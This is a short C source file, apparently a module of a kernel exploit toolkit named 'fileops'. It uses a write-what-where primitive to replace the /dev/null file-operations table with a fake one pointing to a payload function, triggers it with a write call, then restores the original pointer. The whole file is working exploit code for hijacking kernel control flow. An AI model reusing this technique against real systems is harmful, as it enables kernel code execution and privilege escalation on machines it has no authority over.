// A data pointer is enough: the table of operations of /dev/null is replaced by one in this program.
#include "exploit.h"

// As the kernel lays it out: read, write, control, close, open.
static const void *fake_operations[] = {payload_call, payload_call, payload_call, 0, 0};

static int run(const struct vuln_leak *leak) {
    uint32_t original = vuln(VULN_PEEK, leak->device_operations, 0);
    vuln(VULN_POKE, leak->device_operations, (uintptr_t)fake_operations);
    int null = open("/dev/null");
    int cs = write(null, "", 1);
    close(null);
    vuln(VULN_POKE, leak->device_operations, original);
    return cs;
}

const struct exploit exploit_fileops = {"fileops", run, payload_call};
